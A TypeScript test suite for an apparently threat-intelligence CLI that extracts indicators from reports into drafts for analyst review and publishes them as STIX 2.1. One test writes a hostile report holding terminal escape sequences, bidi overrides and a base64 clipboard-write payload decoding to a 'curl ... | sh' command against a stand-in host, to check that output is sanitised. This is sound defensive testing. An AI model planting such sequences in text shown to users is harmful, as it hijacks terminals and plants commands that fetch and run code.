// From report to published intelligence on the command line: `entente extract` makes a draft, the
// analyst reviews it with `entente draft`, and publishing puts valid STIX 2.1 into a circle.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { entente, temporaryDirectory } from '../cli/cli-kit.ts';
import { loadNodeConfig, openNode } from '../../src/compose.ts';
import { validateStixObject } from '../../src/stix/validate.ts';
import type { StixObject } from '../../src/stix/types.ts';
import { TLP2_MARKING_IDS } from '../../src/policy/tlp.ts';

const PDF = new URL('../fixtures/documents/report-two-columns.pdf', import.meta.url).pathname;

interface DraftJson {
  id: string;
  title: string;
  items: { id: string; kind: string; type: string; value: string; stix_id?: string; method: { source: string; detail: string }; decision: { state: string; analyst?: string; reason?: string; value?: string } }[];
}

async function collectionObjects(dataDir: string, collectionId: string): Promise<StixObject[]> {
  const node = await openNode(loadNodeConfig({ dataDir }, {}));
  try {
    const collection = (await node.store.listCollections()).find((c) => c.id === collectionId || c.alias === collectionId);
    const page = await node.store.listEntries(collection?.id ?? collectionId, {}, { limit: 10_000 });
    return page.entries.map((entry) => JSON.parse(entry.json) as StixObject);
  } finally {
    await node.close();
  }
}

describe('entente extract → entente draft → a circle', () => {
  const dir = temporaryDirectory('drafts-cli');
  const data = join(dir.path, 'node');
  let draftId = '';
  before(async () => {
    const created = await entente(data, ['circle', 'create', 'wide', '--name', 'Energy sector 2026', '--kind', 'formal', '--review', '2027-06-01T00:00:00Z']);
    assert.equal(created.code, 0, created.stderr);
  });
  after(() => dir.remove());

  it('extract --json creates a draft per report and prints its id', async () => {
    const run = await entente(data, ['extract', PDF, '--json']);
    assert.equal(run.code, 0, run.stderr);
    const printed = JSON.parse(run.stdout) as { draft: string; observables: unknown[] };
    assert.match(printed.draft, /^\d+$/);
    assert.ok(printed.observables.length > 0, 'the extraction output is unchanged');
    draftId = printed.draft;
    const list = await entente(data, ['draft', 'list']);
    assert.match(list.stdout, new RegExp(`^${draftId}\\treport-two-columns\\.pdf\\tOperation Lantern`, 'm'));
  });

  it('extract --no-draft is a dry run: it stores nothing', async () => {
    const before = (await entente(data, ['draft', 'list', '--json'])).stdout.trim().split('\n').length;
    const run = await entente(data, ['extract', PDF, '--json', '--no-draft']);
    assert.equal(run.code, 0, run.stderr);
    assert.equal((JSON.parse(run.stdout) as { draft?: string }).draft, undefined);
    assert.equal((await entente(data, ['draft', 'list', '--json'])).stdout.trim().split('\n').length, before);
  });

  it('show prints each item with its state, value and evidence; suppressed values start rejected with the reason', async () => {
    const text = await entente(data, ['draft', 'show', draftId]);
    assert.match(text.stdout, /draft \d+: Operation Lantern/);
    assert.match(text.stdout, /pending +ipv4-addr +185\.220\.101\.47/);
    assert.match(text.stdout, /“The first stage beacons to the command server at 185\.220\.101\.47” \[page 1\]/);
    const json = JSON.parse((await entente(data, ['draft', 'show', draftId, '--json'])).stdout) as DraftJson;
    const documentation = json.items.find((item) => item.value === '198.51.100.23');
    assert.deepEqual([documentation?.decision.state, documentation?.decision.reason], ['rejected', 'documentation address range (RFC 5737)']);
  });

  it('refuses to publish while items are pending, naming them', async () => {
    const run = await entente(data, ['draft', 'publish', draftId, '--circle', 'wide', '--tlp', 'amber']);
    assert.equal(run.code, 1);
    assert.match(run.stderr, /ENT_DRAFT_UNDECIDED: draft \d+ has \d+ undecided item\(s\) \(1, 2,/);
  });

  it('refuses unknown drafts and items, edits into invalid values, and says why', async () => {
    assert.match((await entente(data, ['draft', 'show', '999'])).stderr, /ENT_DRAFT_NOT_FOUND/);
    assert.match((await entente(data, ['draft', 'accept', draftId, '42'])).stderr, /ENT_DRAFT_ITEM_NOT_FOUND: draft \d+ has no item "42"/);
    const edit = await entente(data, ['draft', 'edit', draftId, '1', '--value', 'update-check.net']);
    assert.equal(edit.code, 1);
    assert.match(edit.stderr, /ENT_DRAFT_VALUE_INVALID: item 1 \(ipv4-addr\): "update-check\.net" is not an IPv4 address/);
    assert.match((await entente(data, ['draft', 'edit', draftId, '2', '--pattern', "[domain-name:value = 'x'"])).stderr, /ENT_DRAFT_VALUE_INVALID: .*STIX pattern is invalid/);
  });

  it('accept, edit and reject record the analyst; publish puts valid STIX into the circle', async () => {
    const edit = await entente(data, ['draft', 'edit', draftId, '1', '--value', '185.220.101.0/24', '--analyst', 'ana']);
    assert.equal(edit.code, 0, edit.stderr);
    assert.match(edit.stdout, /edited +ipv4-addr +185\.220\.101\.0\/24 \(was 185\.220\.101\.47\)/);
    assert.equal((await entente(data, ['draft', 'reject', draftId, '5', '--analyst', 'ana', '--reason', 'shared CDN'])).code, 0);
    const accept = await entente(data, ['draft', 'accept', draftId, 'pending', '--analyst', 'ana']);
    assert.equal(accept.code, 0, accept.stderr);

    const run = await entente(data, ['draft', 'publish', draftId, '--circle', 'wide', '--tlp', 'amber', '--analyst', 'ana', '--json']);
    assert.equal(run.code, 0, run.stderr);
    const outcome = JSON.parse(run.stdout) as { publication: { collection_id: string; circle_id: string; report_id: string; tlp: string; object_ids: string[] }; added: number; duplicate: number };
    assert.deepEqual([outcome.publication.circle_id, outcome.publication.tlp], ['wide', 'amber']);
    assert.equal(outcome.added + outcome.duplicate, outcome.publication.object_ids.length, 'ingest refused nothing');
    assert.match(run.stderr, /warning: circle wide has no agreement yet: no member receives anything/);

    const objects = await collectionObjects(data, outcome.publication.collection_id);
    for (const object of objects) assert.deepEqual(validateStixObject(object).issues.filter((issue) => issue.severity === 'error'), [], object.id);
    const report = objects.find((object) => object.id === outcome.publication.report_id);
    assert.ok(report, 'the report is in the circle collection');
    assert.equal(report['name'], 'Operation Lantern: technical analysis');
    const held = new Set(objects.map((object) => object.id));
    // ATT&CK/ATLAS objects the node does not hold are referred to by STIX id all the same (build-publication.ts).
    const attackTypes = new Set(['attack-pattern', 'malware', 'tool', 'intrusion-set', 'campaign', 'course-of-action', 'x-mitre-tactic']);
    for (const ref of report['object_refs'] as string[]) assert.ok(held.has(ref) || attackTypes.has(ref.split('--')[0] ?? ''), `${ref} is published with the report`);
    const patterns = objects.filter((object) => object.type === 'indicator').map((object) => object['pattern']).sort();
    assert.deepEqual(patterns, [
      "[domain-name:value = 'update-check.net']",
      "[file:hashes.'MD5' = '0cc175b9c0f1b6a831c399e269772661']",
      "[file:hashes.'SHA-256' = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08']",
      "[ipv4-addr:value = '185.220.101.0/24']",
      "[ipv4-addr:value = '45.77.12.3']",
    ]);
    const home = objects.find((object) => object.type === 'identity');
    for (const object of objects.filter((o) => o.type === 'indicator' || o.type === 'report')) {
      assert.equal(object['created_by_ref'], home?.id);
      assert.deepEqual(object['object_marking_refs'], [TLP2_MARKING_IDS.amber]);
    }
    const provenance = report['x_entente_provenance'] as { items: { proposed_value: string; decision: string; decided_by?: string; value?: string }[] };
    assert.deepEqual(
      provenance.items.filter((entry) => entry.decided_by === 'ana').map((entry) => [entry.proposed_value, entry.decision, entry.value]).slice(0, 2),
      // The value before the edit stays in the draft: the analyst may have edited something out of it.
      [[undefined, 'edited', '185.220.101.0/24'], ['update-check.net', 'accepted', undefined]],
    );
    assert.equal(JSON.stringify(objects).includes('185.220.101.47'), false, 'nor does any published text carry it');
    assert.equal(objects.some((object) => object['value'] === 'cdn-lantern.org' || object['value'] === '198.51.100.23'), false, 'rejected items are not published');

    const shown = await entente(data, ['draft', 'list']);
    assert.match(shown.stdout, /published .* to wide/);
  });

  it('refuses to publish a draft twice, and decisions after publication', async () => {
    const again = await entente(data, ['draft', 'publish', draftId, '--circle', 'wide', '--tlp', 'amber']);
    assert.equal(again.code, 1);
    assert.match(again.stderr, /ENT_DRAFT_PUBLISHED: draft \d+ was already published/);
    assert.match((await entente(data, ['draft', 'reject', draftId, '1'])).stderr, /ENT_DRAFT_PUBLISHED/);
  });

  it('refuses unknown circles and collections, a missing target or TLP, and a TLP outside TLP 2.0', async () => {
    const report = join(dir.path, 'short.md');
    writeFileSync(report, '# Dusk\nThe loader called 45.77.12.9 and dusk-c2[.]net.\n');
    const made = JSON.parse((await entente(data, ['extract', report, '--json'])).stdout) as { draft: string };
    assert.match((await entente(data, ['draft', 'publish', made.draft, '--circle', 'nowhere', '--reject-pending'])).stderr, /ENT_CIRCLE_NOT_FOUND/);
    assert.match((await entente(data, ['draft', 'publish', made.draft, '--collection', 'nowhere', '--tlp', 'green', '--reject-pending'])).stderr, /ENT_COLLECTION_NOT_FOUND/);
    assert.match((await entente(data, ['draft', 'publish', made.draft, '--reject-pending'])).stderr, /ENT_DRAFT_TARGET_INVALID/);
    assert.match((await entente(data, ['draft', 'publish', made.draft, '--collection', 'default', '--reject-pending'])).stderr, /ENT_DRAFT_TARGET_INVALID: choose the TLP/);
    assert.match((await entente(data, ['draft', 'publish', made.draft, '--circle', 'wide', '--tlp', 'white', '--reject-pending'])).stderr, /ENT_DRAFT_TARGET_INVALID: TLP must be one of/);
    assert.match((await entente(data, ['draft', 'publish', made.draft, '--circle', 'wide', '--reject-pending'])).stderr, /ENT_DRAFT_EMPTY/, 'everything pending was rejected');
  });

  it('--revision publishes the state of the draft `draft show` printed, or nothing once a decision changed it', async () => {
    const report = join(dir.path, 'noon.md');
    writeFileSync(report, '# Noon\nThe loader called 45.77.12.13.\n');
    const made = JSON.parse((await entente(data, ['extract', report, '--json'])).stdout) as { draft: string };
    assert.equal((await entente(data, ['draft', 'accept', made.draft, '1', '--analyst', 'bo'])).code, 0);
    const printed = /revision: ([0-9a-f]{32})/.exec((await entente(data, ['draft', 'show', made.draft])).stdout)?.[1];
    const reviewed = (JSON.parse((await entente(data, ['draft', 'show', made.draft, '--json'])).stdout) as { revision: string }).revision;
    assert.equal(printed, reviewed, 'show prints the revision --json gives');
    assert.equal((await entente(data, ['draft', 'edit', made.draft, '1', '--value', '45.77.12.0/24', '--analyst', 'cy'])).code, 0);
    const stale = await entente(data, ['draft', 'publish', made.draft, '--circle', 'wide', '--revision', reviewed, '--analyst', 'bo']);
    assert.equal(stale.code, 1);
    assert.match(stale.stderr, /ENT_DRAFT_CHANGED: draft \d+ changed since revision/);
    const current = (JSON.parse((await entente(data, ['draft', 'show', made.draft, '--json'])).stdout) as { revision: string; publication?: unknown });
    assert.equal(current.publication, undefined, 'nothing was published');
    const run = await entente(data, ['draft', 'publish', made.draft, '--circle', 'wide', '--revision', current.revision, '--analyst', 'bo']);
    assert.equal(run.code, 0, run.stderr);
  });

  it('--reject-pending publishes what was accepted, in the circle default TLP, and records the rejections', async () => {
    const report = join(dir.path, 'dawn.md');
    writeFileSync(report, '# Dawn\nThe loader called 45.77.12.10 and dawn-c2[.]net.\n');
    const made = JSON.parse((await entente(data, ['extract', report, '--json'])).stdout) as { draft: string };
    const shown = JSON.parse((await entente(data, ['draft', 'show', made.draft, '--json'])).stdout) as DraftJson;
    const ip = shown.items.find((item) => item.value === '45.77.12.10');
    assert.equal((await entente(data, ['draft', 'accept', made.draft, ip?.id ?? '', '--analyst', 'bo'])).code, 0);
    const run = await entente(data, ['draft', 'publish', made.draft, '--circle', 'wide', '--reject-pending', '--analyst', 'bo', '--json']);
    assert.equal(run.code, 0, run.stderr);
    const outcome = JSON.parse(run.stdout) as { publication: { tlp: string }; report: StixObject };
    assert.equal(outcome.publication.tlp, 'amber', "the circle's default TLP");
    const after = JSON.parse((await entente(data, ['draft', 'show', made.draft, '--json'])).stdout) as DraftJson;
    const domain = after.items.find((item) => item.value === 'dawn-c2.net');
    assert.deepEqual([domain?.decision.state, domain?.decision.analyst], ['rejected', 'bo']);
  });

  it('links ATT&CK: references by STIX id, kill-chain phases from the attack-pattern the node holds, indicates/uses relationships', async () => {
    const attack = {
      type: 'bundle',
      id: 'bundle--00000000-0000-4000-8000-00000000a771',
      objects: [
        { type: 'attack-pattern', spec_version: '2.1', id: 'attack-pattern--df8b2a25-8bdf-4856-953c-a04372b1c161', created: '2020-03-15T16:16:25.763Z', modified: '2025-04-15T19:59:02.092Z', name: 'Web Protocols', external_references: [{ source_name: 'mitre-attack', external_id: 'T1071.001' }], kill_chain_phases: [{ kill_chain_name: 'mitre-attack', phase_name: 'command-and-control' }] },
        { type: 'malware', spec_version: '2.1', id: 'malware--a7881f21-e978-4fe4-af56-92c9416a2616', created: '2018-10-17T00:14:20.652Z', modified: '2025-04-16T20:38:15.427Z', name: 'Cobalt Strike', is_family: true },
      ],
    };
    const bundle = join(dir.path, 'attack.json');
    writeFileSync(bundle, JSON.stringify(attack));
    assert.equal((await entente(data, ['import', bundle])).code, 0);
    const report = join(dir.path, 'night-owl.md');
    writeFileSync(report, '# Night Owl\n\nAPT29 operators used Cobalt Strike beacons over HTTPS (T1071.001) to 45.77.12.20.\n');
    const made = JSON.parse((await entente(data, ['extract', report, '--json'])).stdout) as { draft: string };
    const shown = JSON.parse((await entente(data, ['draft', 'show', made.draft, '--json'])).stdout) as DraftJson;
    const linked = shown.items.filter((item) => item.stix_id !== undefined).map((item) => [item.kind, item.value, item.method.detail]);
    for (const expected of [['attack-pattern', 'T1071.001', 'explicit'], ['malware', 'S0154', 'name'], ['intrusion-set', 'G0016', 'name']]) {
      assert.ok(linked.some((entry) => entry.join() === expected.join()), `${expected.join()} in ${JSON.stringify(linked)}`);
    }
    assert.equal((await entente(data, ['draft', 'accept', made.draft, 'pending', '--analyst', 'ana'])).code, 0);
    const run = await entente(data, ['draft', 'publish', made.draft, '--circle', 'wide', '--tlp', 'green', '--analyst', 'ana', '--json']);
    assert.equal(run.code, 0, run.stderr);
    const outcome = JSON.parse(run.stdout) as { publication: { collection_id: string; object_ids: string[] }; added: number; duplicate: number; report: StixObject };
    assert.equal(outcome.added + outcome.duplicate, outcome.publication.object_ids.length, 'ingest refused nothing');
    const objects = new Map((await collectionObjects(data, outcome.publication.collection_id)).map((object) => [object.id, object]));
    const indicator = [...objects.values()].find((object) => object.type === 'indicator' && object['pattern'] === "[ipv4-addr:value = '45.77.12.20']");
    assert.deepEqual(indicator?.['kill_chain_phases'], [{ kill_chain_name: 'mitre-attack', phase_name: 'command-and-control' }]);
    assert.ok(objects.has('attack-pattern--df8b2a25-8bdf-4856-953c-a04372b1c161'), 'the ATT&CK object the node holds is published beside the report');
    const refs = outcome.report['object_refs'] as string[];
    assert.ok(refs.includes('intrusion-set--899ce53f-13a0-479b-a0e4-67d46e241542'), 'a group the node does not hold is referred to by its STIX id');
    const edges = [...objects.values()].filter((object) => object.type === 'relationship').map((r) => `${String(r['source_ref'])} ${String(r['relationship_type'])} ${String(r['target_ref'])}`);
    assert.ok(edges.includes(`${indicator?.id ?? ''} indicates malware--a7881f21-e978-4fe4-af56-92c9416a2616`));
    assert.ok(edges.includes('intrusion-set--899ce53f-13a0-479b-a0e4-67d46e241542 uses attack-pattern--df8b2a25-8bdf-4856-953c-a04372b1c161'));
    assert.ok(edges.includes('intrusion-set--899ce53f-13a0-479b-a0e4-67d46e241542 uses malware--a7881f21-e978-4fe4-af56-92c9416a2616'));
  });

  it('assign gives a draft to an unrevoked token (shown to the operator as created_by_token), and says why it will not', async () => {
    const made = JSON.parse((await entente(data, ['extract', PDF, '--json'])).stdout) as { draft: string };
    const show = async (): Promise<Record<string, unknown>> => JSON.parse((await entente(data, ['draft', 'show', made.draft, '--json'])).stdout) as Record<string, unknown>;
    assert.equal((await show())['created_by_token'], undefined, 'extract makes a draft of no token');
    assert.match((await entente(data, ['draft', 'show', made.draft])).stdout, /token: none \(administrators only/);
    for (const name of ['ana', 'gone']) assert.equal((await entente(data, ['token', 'create', '--name', name, '--collections', 'default:rw'])).code, 0);
    assert.equal((await entente(data, ['token', 'revoke', 'gone'])).code, 0);

    const assigned = await entente(data, ['draft', 'assign', made.draft, 'ana']);
    assert.equal(assigned.code, 0, assigned.stderr);
    assert.equal(assigned.stdout.trim(), `draft ${made.draft} now belongs to token ana (it had none)`);
    assert.equal((await show())['created_by_token'], 'ana');
    assert.match((await entente(data, ['draft', 'show', made.draft])).stdout, /token: ana \(and administrators\)/);
    const listed = (await entente(data, ['draft', 'list', '--json'])).stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    assert.equal(listed.find((summary) => summary['id'] === made.draft)?.['created_by_token'], 'ana');

    const unknown = await entente(data, ['draft', 'assign', made.draft, 'nobody']);
    assert.equal(unknown.code, 1);
    assert.match(unknown.stderr, /ENT_TOKEN_NOT_FOUND: No token "nobody" \(entente token list shows them\)/);
    const revoked = await entente(data, ['draft', 'assign', made.draft, 'gone']);
    assert.equal(revoked.code, 1);
    assert.match(revoked.stderr, /ENT_DRAFT_OWNER_INVALID: token "gone" was revoked at .*; assign the draft to a token in use/);
    assert.match((await entente(data, ['draft', 'assign', '999', 'ana'])).stderr, /ENT_DRAFT_NOT_FOUND/);
    assert.equal((await show())['created_by_token'], 'ana', 'a refused assignment changes nothing');
  });

  it("prints a report's own text (title, evidence, values, attachment names) without the terminal control sequences it carries", async () => {
    // The report's author writes the title and the sentences: an escape sequence in them would
    // reach the analyst's terminal (retitle the window, write the clipboard, erase lines, hide a
    // value), a bidi override would show a value backwards.
    const hostile = join(dir.path, 'hostile.txt');
    const osc = '\u001b]52;c;Y3VybCBldmlsLnRvcCB8IHNo\u0007';
    writeFileSync(hostile, `Operation \u001b[2J\u001b[1;1HQuiet${osc} Lantern\u202e\n\nThe loader calls 45.77.12.3 \u009b31m and hxxps://evil-c2[.]com/gate\u202e.php\u001b[8m today.\n`);
    const extracted = await entente(data, ['extract', hostile]);
    assert.equal(extracted.code, 0, extracted.stderr);
    const draft = /^draft (\d+):/m.exec(extracted.stdout)?.[1] ?? '';
    const shown = await entente(data, ['draft', 'show', draft]);
    const listed = await entente(data, ['draft', 'list']);
    // eslint-disable-next-line no-control-regex
    const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
    for (const [what, out] of [['extract', extracted.stdout], ['draft show', shown.stdout], ['draft list', listed.stdout]] as const) {
      assert.doesNotMatch(out, CONTROL, what);
    }
    // Shown, not dropped: the analyst sees that the document holds them.
    assert.match(shown.stdout, /^draft \d+: Operation \\u001b\[2J\\u001b\[1;1HQuiet\\u001b\]52;c;Y3VybCBldmlsLnRvcCB8IHNo\\u0007 Lantern\\u202e$/m);
    assert.match(shown.stdout, /45\.77\.12\.3 \\u009b31m/);
  });

  it('has --help with examples', async () => {
    const help = await entente(data, ['draft', '--help']);
    assert.match(help.stdout, /entente draft publish 7 --circle wide --tlp amber/);
    assert.match((await entente(data, ['draft', 'assign', '--help'])).stdout, /\$ entente draft assign 7 ana/);
    for (const sub of ['list', 'show', 'accept', 'reject', 'edit', 'publish', 'assign']) {
      assert.match((await entente(data, ['draft', sub, '--help'])).stdout, /Example/, sub);
    }
  });
});
